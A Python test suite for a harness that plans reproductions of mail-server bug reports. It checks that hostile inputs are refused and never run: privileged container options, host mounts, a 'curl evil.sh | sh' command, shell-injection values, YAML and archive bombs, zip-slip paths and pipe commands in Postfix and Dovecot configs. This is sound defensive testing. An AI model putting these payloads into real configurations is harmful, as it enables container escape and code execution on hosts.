"""What a hostile report tries: it is refused or neutralised with a word, and nothing is run."""

from __future__ import annotations

import io
import os
import socket
import stat
import tarfile
import time
import zipfile
from collections.abc import Callable
from functools import cache
from pathlib import Path

import pytest
import yaml

from harness.reproduce import limits, match
from harness.reproduce.engine import Asked, Plan, plan
from harness.reproduce.intake import ReportError, read_report
from harness.reproduce.notes import Notes
from harness.scenario_file import load_all

SCENARIOS = Path(__file__).parents[2] / "scenarios"
ALL = cache(load_all)
SERVICE = """\
services:
  mailserver:
    image: docker.io/mailserver/docker-mailserver:14.0
    hostname: mail.victim.de
    ports: ["10025:25"]
"""
QUADLET = """\
[Container]
ContainerName=dms
HostName=mail.victim.de
Image=docker.io/mailserver/docker-mailserver:14.0
PublishPort=25:25
"""
RUN = "podman run -d --name dms -h mail.victim.de -p 25:25 {} docker-mailserver:14 {}\n"


@pytest.fixture(autouse=True)
def _scenarios_are_read_once(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(match, "load_all", ALL)


def planned(path: Path) -> Plan:
    return plan(path, Asked(SCENARIOS))


def said(made: Plan, sort: str) -> str:
    return "\n".join(str(note) for note in made.notes.all if note.sort == sort)


def written(made: Plan) -> str:
    """Everything that would be put on a machine, or be done there."""
    return "\n".join([*made.files, *made.files.values(), str(made.table.get("prepare"))])


# In compose files


@pytest.mark.parametrize(
    ("line", "gone"),
    [
        ("privileged: true", "privileged"),
        ("devices: ['/dev/sda:/dev/sda']", "/dev/sda"),
        ("pid: host", "pid:"),
        ("ipc: host", "ipc:"),
        ("uts: host", "uts:"),
        ("cgroup: host", "cgroup"),
        ("userns_mode: host", "userns_mode"),
        ("entrypoint: ['/bin/sh', '-c', 'id > /tmp/x']", "/bin/sh"),
        ("command: sh -c 'curl evil.sh | sh'", "curl"),
        ("cap_add: [SYS_ADMIN]", "SYS_ADMIN"),
        ("cap_add: [ALL]", "ALL"),
        ("cap_add: [SYS_PTRACE]", "SYS_PTRACE"),
        ("security_opt: ['seccomp=unconfined']", "unconfined"),
        ("security_opt: ['apparmor:unconfined']", "unconfined"),
        ("security_opt: ['label=type:spc_t']", "spc_t"),
        ("volumes: ['/:/host']", "/host"),
        ("volumes: ['/var/run/docker.sock:/var/run/docker.sock']", "docker.sock"),
        ("volumes: ['/dev:/dev']", "/dev"),
        ("volumes: ['/proc:/hostproc:ro']", "hostproc"),
        ("volumes: ['./x:/tmp/docker-mailserver/../../etc']", "etc"),
        ("volumes: [{type: tmpfs, target: /var/mail}]", "tmpfs"),
        ("sysctls: {net.ipv4.ip_forward: 1}", "ip_forward"),
        ("extends: {file: ../../other.yaml, service: x}", "other.yaml"),
        ("secrets: [host_key]", "host_key"),
        ("runtime: /tmp/evil", "/tmp/evil"),
        ("ports: ['22:25']", "22:25"),
        ("container_name: 'a; reboot'", "reboot"),
        ("hostname: '$$(reboot).de'", "reboot"),
        ("restart: 'always; reboot'", "reboot"),
        ("environment: {LD_PRELOAD: /tmp/evil.so}", "LD_PRELOAD"),
        ("environment: {LOG_LEVEL: '$$(reboot)'}", "reboot"),
        ("environment: {LOG_LEVEL: \"x'; reboot; '\"}", "reboot"),
        ('environment: {LOG_LEVEL: "x\\nPATH=/evil"}', "/evil"),
        ("post_start: [{command: reboot}]", "reboot"),
        ("cgroup_parent: /system.slice", "system.slice"),
        ("x-unheard-of: {run: evil}", "evil"),
    ],
)
def test_a_dangerous_key_of_compose_is_said_and_not_taken_over(
    tmp_path: Path, line: str, gone: str
) -> None:
    key = line.partition(":")[0]
    kept = "".join(
        each for each in SERVICE.splitlines(keepends=True) if not each.strip().startswith(f"{key}:")
    )
    (tmp_path / "compose.yaml").write_text(f"{kept}    {line}\n")
    made = planned(tmp_path)
    assert gone not in written(made)
    assert key in said(made, "refused") + said(made, "left out") + said(made, "unmatched")


@pytest.mark.parametrize("source", ["/", "/etc", "../../..", "~/.ssh", "$HOME", "/root/x y"])
def test_the_hosts_own_folders_are_never_the_source_of_a_mount(tmp_path: Path, source: str) -> None:
    (tmp_path / "compose.yaml").write_text(f"{SERVICE}    volumes: ['{source}:/var/mail']\n")
    made = planned(tmp_path)
    (mount,) = yaml.safe_load(made.files["compose.yaml"])["services"]["mailserver"]["volumes"]
    assert mount == "./volumes/var-mail:/var/mail"


@pytest.mark.parametrize("mode", ["host", "none", "container:other", "service:x", "ns:/proc/1/ns"])
def test_a_network_that_no_machine_shows_is_not_deployed(tmp_path: Path, mode: str) -> None:
    (tmp_path / "compose.yaml").write_text(f"{SERVICE}    network_mode: '{mode}'\n")
    made = planned(tmp_path)
    assert not made.table
    assert mode.partition(":")[0] in str(made.notes.obstacles[0])


def test_nothing_of_this_computers_environment_is_filled_in(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CLOUD_TOKEN", "of-this-computer")
    text = SERVICE.replace("mail.victim.de", "${CLOUD_TOKEN:-mail}.victim.de")
    text += "    environment: ['LOG_LEVEL=${CLOUD_TOKEN}', CLOUD_TOKEN]\n"
    (tmp_path / "compose.yaml").write_text(text)
    made = planned(tmp_path)
    assert "of-this-computer" not in written(made)
    assert "hostname: mail.example.com" in made.files["compose.yaml"]
    assert "CLOUD_TOKEN" in said(made, "assumed")


def test_what_looks_like_a_variable_is_not_filled_in_on_the_machine(tmp_path: Path) -> None:
    (tmp_path / "compose.yaml").write_text(f"{SERVICE}    environment: {{LOG_LEVEL: 'a$$b'}}\n")
    assert "LOG_LEVEL: a$$b" in planned(tmp_path).files["compose.yaml"]


BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{new}: &{new} [{', '.join([f'*{old}'] * 9)}]\n"
    for old, new in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize(
    ("text", "why"),
    [
        (BOMB, "aliases are written out"),
        ("a: &a [*a]\n", "contains itself"),
        ("[" * 5000, "deep"),
        ("- " * 300 + "x", "deep"),
        ("{" * 2000 + "}" * 2000, "deep"),
        ("x: " + "y" * (limits.YAML + 1), "KB"),
        ("!!python/object/apply:os.system ['touch trap']", "the tag"),
        ("a: !!python/name:os.system", "the tag"),
        ("services: !reset {}", "the tag"),
        ("services: {}\nservices: {}\n", "twice"),
        ("a: [\n", "expected"),
        ("- x\n" * 30_000, "values"),
        ("? [a, b]\n: c\n", "no text"),
        ("a: 1\n--- \nb: 2\n", "another document"),
    ],
)
def test_a_yaml_bomb_is_refused_in_no_time(tmp_path: Path, text: str, why: str) -> None:
    (tmp_path / "compose.yaml").write_text(text)
    began = time.monotonic()
    made = planned(tmp_path)
    assert time.monotonic() - began < 10
    assert why in said(made, "refused")
    assert not made.table


def test_what_is_filled_in_does_not_grow_without_end(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text(f"A={'x' * 4000}\n")
    (tmp_path / "compose.yaml").write_text(f"{SERVICE}    labels: ['{'${A}' * 20_000}']\n")
    assert "filled in" in said(planned(tmp_path), "refused")


@pytest.mark.parametrize(
    "text",
    [
        "a." * 500_000,
        "a-" * 500_000,
        "`" * 900_000,
        "".join("`" * n + "\n" for n in range(3, 1300)),
        "# " + " " * 900_000 + "x",
        "#\n" * 450_000,
        "::" * 450_000,
        "1.1.1." * 150_000,
        "x@" * 450_000,
        "nc " * 300_000,
        "-----BEGIN PRIVATE KEY-----" * 30_000,
        "PASSWORD_" * 100_000,
        "AUTH PLAIN " * 90_000,
        "open relay " * 80_000,
        "sudo -a " * 110_000,
        "{A}" * 300_000,
    ],
    ids=lambda text: repr(text[:12]),
)
def test_no_text_keeps_a_pattern_busy(tmp_path: Path, text: str) -> None:
    (tmp_path / "compose.yaml").write_text(SERVICE)
    for name in ("received.txt", "report.md"):
        (tmp_path / name).write_text(text[: limits.FILE - 1])
    began = time.monotonic()
    made = planned(tmp_path)
    made.sent()
    assert time.monotonic() - began < 20


# In Quadlets


@pytest.mark.parametrize(
    ("line", "gone"),
    [
        ("PodmanArgs=--privileged", "--privileged"),
        ("GlobalArgs=--root=/", "--root"),
        ("Exec=sh -c reboot", "reboot"),
        ("Entrypoint=/bin/sh", "/bin/sh"),
        ("HealthCmd=reboot", "reboot"),
        ("AddDevice=/dev/kmsg", "kmsg"),
        ("Mount=type=bind,source=/,destination=/host", "/host"),
        ("Volume=/:/host", "/host"),
        ("Volume=/var/mail:/var/mail:rshared", "rshared"),
        ("Rootfs=/", "Rootfs"),
        ("SeccompProfile=unconfined", "unconfined"),
        ("SecurityLabelType=spc_t", "spc_t"),
        ("Unmask=ALL", "Unmask"),
        ("ContainersConfModule=/tmp/evil.conf", "evil.conf"),
        ("EnvironmentHost=true", "EnvironmentHost"),
        ("UIDMap=0:0:4294967295x", "4294967295"),
        ("UserNS=host", "UserNS"),
        ("ContainerName=a\\\nExecStartPre=reboot", "reboot"),
        ("HostName=a\u2028ExecStartPre=reboot", "reboot"),
        ('Environment="LOG_LEVEL=x\\nExecStop=reboot"', "reboot"),
        ("[Service]\nExecStartPre=/bin/sh -c reboot", "reboot"),
        ("[Service]\nExecStartPre=mkdir -p x; reboot", "reboot"),
        ("[Service]\nEnvironment=LD_PRELOAD=/tmp/x", "LD_PRELOAD"),
        ("[Service]\nUser=root", "User="),
        ("[Install]\nWantedBy=sysinit.target", "sysinit"),
        ("[Unit]\nOnFailure=evil.service", "evil"),
        ("[Kube]\nYaml=/evil.yaml", "evil"),
    ],
)
def test_a_dangerous_line_of_a_quadlet_is_said_and_not_taken_over(
    tmp_path: Path, line: str, gone: str
) -> None:
    (tmp_path / "dms.container").write_text(f"{QUADLET}{line}\n", encoding="utf-8")
    made = planned(tmp_path)
    assert gone not in written(made)
    assert said(made, "refused") + said(made, "left out")


# In command lines


@pytest.mark.parametrize(
    ("options", "command", "gone"),
    [
        ("--privileged", "", "--privileged"),
        ("--device=/dev/mem", "", "/dev/mem"),
        ("--pid=host", "", "pid"),
        ("--pid host", "", "pid"),
        ("-v /:/host", "", "/host"),
        ("--mount type=bind,src=/,dst=/host", "", "/host"),
        ("--cap-add=ALL", "", "ALL"),
        ("--security-opt seccomp=unconfined", "", "unconfined"),
        ("--entrypoint /bin/sh", "", "/bin/sh"),
        ("", "sh -c 'touch trap'", "trap"),
        ("-e LOG_LEVEL=$(touch trap)", "", "trap"),
        ("-e LOG_LEVEL=`touch trap`", "", "trap"),
        ("-e 'LOG_LEVEL=$(touch trap)'", "", "trap"),
        ("-e HOME", "", "HOME"),
        ("", "; touch trap", "trap"),
        ("", "&& touch trap", "trap"),
        ("", "| tee trap", "trap"),
        ("", "> /etc/trap", "trap"),
        ("--name 'a;touch trap'", "", "trap"),
        ("--env-file /etc/trap", "", "/etc"),
        ("--volumes-from trap", "", "trap"),
        ("--hooks-dir /trap", "", "trap"),
    ],
)
def test_a_dangerous_word_of_a_command_is_said_and_not_taken_over(
    tmp_path: Path, options: str, command: str, gone: str
) -> None:
    (tmp_path / "start.sh").write_text(RUN.format(options, command))
    made = planned(tmp_path)
    assert gone not in written(made)
    assert said(made, "refused") or "empty" in said(made, "assumed")


# Files that are none, or too many, or elsewhere


def _link_out(folder: Path) -> None:
    (folder / "mailserver.env").symlink_to("/etc/passwd")


def _link_to_folder(folder: Path) -> None:
    (folder / "config").symlink_to("/etc")


def _fifo(folder: Path) -> None:
    os.mkfifo(folder / "mailserver.env")


def _socket(folder: Path) -> None:
    here = Path.cwd()
    os.chdir(folder)  # the path of a socket may not be long
    try:
        with socket.socket(socket.AF_UNIX) as one:
            one.bind("mailserver.env")
    finally:
        os.chdir(here)


def _device(folder: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("only root can make a device")
    os.mknod(folder / "mailserver.env", stat.S_IFCHR | 0o666, os.makedev(1, 5))


def _huge(folder: Path) -> None:
    with (folder / "mailserver.env").open("wb") as file:
        file.truncate(1 << 40)


def _many(folder: Path) -> None:
    for number in range(limits.FILES + 5):
        (folder / f"note-{number:04}.txt").write_text("x")


def _deep(folder: Path) -> None:
    (folder / "/".join("d" * (limits.DEPTH + 2) for _ in range(1))).mkdir()
    deep = folder.joinpath(*(["d"] * (limits.DEPTH + 3)))
    deep.mkdir(parents=True)


def _odd_name(folder: Path) -> None:
    (folder / "a\x1b[31m.cf").write_text("x")


def _not_unicode(folder: Path) -> None:
    Path(os.fsdecode(os.fsencode(folder) + b"/\xff\xfe.cf")).write_text("x")


@pytest.mark.parametrize(
    "make",
    [
        _link_out,
        _link_to_folder,
        _fifo,
        _socket,
        _device,
        _huge,
        _many,
        _deep,
        _odd_name,
        _not_unicode,
    ],
)
def test_what_is_no_plain_file_is_refused_by_name(
    tmp_path: Path, make: Callable[[Path], None]
) -> None:
    (tmp_path / "compose.yaml").write_text(SERVICE)
    make(tmp_path)
    began = time.monotonic()
    notes = Notes()
    files = read_report(tmp_path, notes)
    assert time.monotonic() - began < 5
    assert notes.of("refused")
    assert len(files.data) <= limits.FILES
    assert "mailserver.env" not in files.data
    assert not any("root:" in content.decode() for content in files.data.values())


@pytest.mark.parametrize("name", ["fifo", "device"])
def test_a_path_that_is_no_file_is_an_error_and_is_not_opened(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    if name == "device":
        path = Path("/dev/zero")
    else:
        os.mkfifo(path)
    with pytest.raises(ReportError, match="is not opened"):
        read_report(path, Notes())


def _tar(*members: tuple[tarfile.TarInfo, bytes], mode: str = "w") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:  # type: ignore[call-overload]
        for member, content in members:
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return buffer.getvalue()


def _member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    member = tarfile.TarInfo(name)
    member.type = kind
    member.linkname = link
    return member


@pytest.mark.parametrize(
    "member",
    [
        _member("/etc/cron.d/trap"),
        _member("../../trap"),
        _member("a/../../trap"),
        _member("trap", tarfile.SYMTYPE, "/etc/passwd"),
        _member("trap", tarfile.LNKTYPE, "/etc/passwd"),
        _member("trap", tarfile.CHRTYPE),
        _member("trap", tarfile.FIFOTYPE),
        _member("trap\\..\\x"),
    ],
    ids=lambda member: f"{member.name}-{member.type.decode()}",
)
def test_a_tar_member_that_leads_out_is_refused(tmp_path: Path, member: tarfile.TarInfo) -> None:
    path = tmp_path / "report.tar"
    path.write_bytes(_tar((_member("compose.yaml"), SERVICE.encode()), (member, b"")))
    notes = Notes()
    files = read_report(path, notes)
    assert list(files.data) == ["compose.yaml"]
    assert "trap" in str(notes.of("refused")[0])
    assert [each.name for each in tmp_path.iterdir()] == ["report.tar"]


@pytest.mark.parametrize(
    "name", ["../../trap", "/etc/trap", "a/../../trap", "C:\\trap", "x\\..\\trap"]
)
def test_zip_slip_is_refused(tmp_path: Path, name: str) -> None:
    path = tmp_path / "report.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("compose.yaml", SERVICE)
        info = zipfile.ZipInfo("x")
        info.filename = name
        archive.writestr(info, "x")
    notes = Notes()
    assert list(read_report(path, notes).data) == ["compose.yaml"]
    assert "trap" in str(notes.of("refused")[0])


@pytest.mark.parametrize("sort", ["zip", "tar.gz", "tar.zst"])
def test_a_bomb_in_an_archive_is_not_unpacked(tmp_path: Path, sort: str) -> None:
    import gzip

    import zstandard

    path = tmp_path / f"report.{sort}"
    zeros = bytes(64 << 20)
    if sort == "zip":
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("mailserver.env", zeros)
    else:
        plain = _tar((_member("mailserver.env"), zeros))
        packed = gzip.compress(plain, 1) if sort == "tar.gz" else zstandard.compress(plain)
        path.write_bytes(packed)
    with pytest.raises(ReportError, match=r"more than|larger than"):
        read_report(path, Notes())


def test_what_a_zip_says_of_a_files_size_is_not_believed(tmp_path: Path) -> None:
    path = tmp_path / "report.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mailserver.env", bytes(8 << 20))
    data = path.read_bytes()
    path.write_bytes(data.replace((8 << 20).to_bytes(4, "little"), (9).to_bytes(4, "little")))
    with pytest.raises(ReportError):
        read_report(path, Notes())


@pytest.mark.parametrize("name", ["report.tar", "report.zip", "report.tar.gz", "report.tar.zst"])
def test_what_is_no_archive_is_an_error(tmp_path: Path, name: str) -> None:
    (tmp_path / name).write_bytes(b"nothing of the sort" * 100)
    with pytest.raises(ReportError, match="cannot be unpacked"):
        read_report(tmp_path / name, Notes())


@pytest.mark.parametrize(
    ("content", "good"),
    [
        (SERVICE.encode("utf-16"), True),
        (b"\xef\xbb\xbf" + SERVICE.encode(), True),
        (SERVICE.replace("\n", "\r\n").encode(), True),
        (SERVICE.encode() + b"\x00", False),
        (SERVICE.encode() + b"# \xff\xfe\xfd", False),
        (SERVICE.encode() + b"# \x1b[2J", False),
        (SERVICE.encode() + "# \u202e".encode(), False),
    ],
)
def test_encodings(tmp_path: Path, content: bytes, good: bool) -> None:
    (tmp_path / "compose.yaml").write_bytes(content)
    made = planned(tmp_path)
    assert bool(made.table) is good
    assert good or "neither UTF-8 nor UTF-16" in said(made, "refused")


# The config folder


@pytest.mark.parametrize(
    ("name", "text", "gone"),
    [
        ("user-patches.sh", "touch trap", "trap"),
        ("postfix-master.cf", "trap unix - n n - - pipe argv=/bin/trap", "trap"),
        ("postfix-main.cf", "mailbox_command = /bin/trap", "trap"),
        ("postfix-main.cf", "command_directory = /trap", "trap"),
        ("postfix-main.cf", "unheard_of = trap", "trap"),
        ("postfix-aliases.cf", "root: |/bin/trap", "trap"),
        ("dovecot.cf", "service trap { executable = script /bin/trap }", "executable"),
        ("dovecot.cf", "!include /etc/trap", "trap"),
        ("alice.dovecot.sieve", "pipe trap;", "trap"),
        ("rspamd/override.d/trap.lua", "trap", "trap"),
        ("fail2ban-jail.cf", "action = trap", "trap"),
        ("opendkim/keys/victim.de/mail.private", "trap", "trap"),
        ("ssl/privkey.pem", "trap", "trap"),
        ("unknown.bin", "trap", "trap"),
    ],
)
def test_programs_and_keys_of_the_config_folder_stay_out(
    tmp_path: Path, name: str, text: str, gone: str
) -> None:
    (tmp_path / "compose.yaml").write_text(SERVICE)
    path = tmp_path / "config" / name
    path.parent.mkdir(parents=True)
    path.write_text(f"{text}\n")
    made = planned(tmp_path)
    assert made.table
    assert gone not in "\n".join(made.files.values())
    assert name.rpartition("/")[2] in said(made, "refused") + said(made, "left out")


def test_scripts_go_along_where_the_user_says_so(tmp_path: Path) -> None:
    (tmp_path / "compose.yaml").write_text(SERVICE)
    (tmp_path / "user-patches.sh").write_text("postconf -n\n")
    made = plan(tmp_path, Asked(SCENARIOS, scripts=True))
    assert made.files["config/user-patches.sh"] == "postconf -n\n"


# Nothing is executed

TRAPPED = (
    "sh",
    "bash",
    "podman",
    "docker",
    "docker-compose",
    "podman-compose",
    "curl",
    "tar",
    "cat",
)


def test_nothing_of_a_report_is_executed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    traps, marks, report = tmp_path / "traps", tmp_path / "marks", tmp_path / "report"
    for folder in (traps, marks, report, report / "config"):
        folder.mkdir()
    for name in TRAPPED:
        trap = traps / name
        trap.write_text(f'#!/bin/true\n: > "{marks}/{name}"\n')
        trap.chmod(0o755)
    monkeypatch.setenv("PATH", str(traps))

    def started(*args: object, **_: object) -> None:
        (marks / "a-process").write_text(repr(args))

    for function in ("fork", "posix_spawn", "system", "execv", "execve", "popen"):
        monkeypatch.setattr(os, function, started)
    monkeypatch.setattr("subprocess.Popen", started)
    trap = f"touch {marks}/done"
    lines = f"    environment: {{LOG_LEVEL: '$$({trap})'}}\n    command: {trap}\n"
    (report / "compose.yaml").write_text(SERVICE + lines)
    (report / "dms.container").write_text(f"{QUADLET}[Service]\nExecStartPre={trap}\n")
    (report / "start.sh").write_text(RUN.format(f"-e 'LOG_LEVEL=$({trap})'", f"; {trap}"))
    (report / "start.sh").chmod(0o755)
    (report / "config" / "user-patches.sh").write_text(f"{trap}\n")
    (report / "report.md").write_text(f"## What happened\n\n$({trap})\n")
    for launcher in ("compose", "quadlet", "run"):
        made = plan(report, Asked(SCENARIOS, launcher=launcher))
        assert made.table["launcher"] == launcher
        made.write(tmp_path / "scenarios")
        made.sent()
        assert "touch" not in written(made)
    assert list(marks.iterdir()) == []
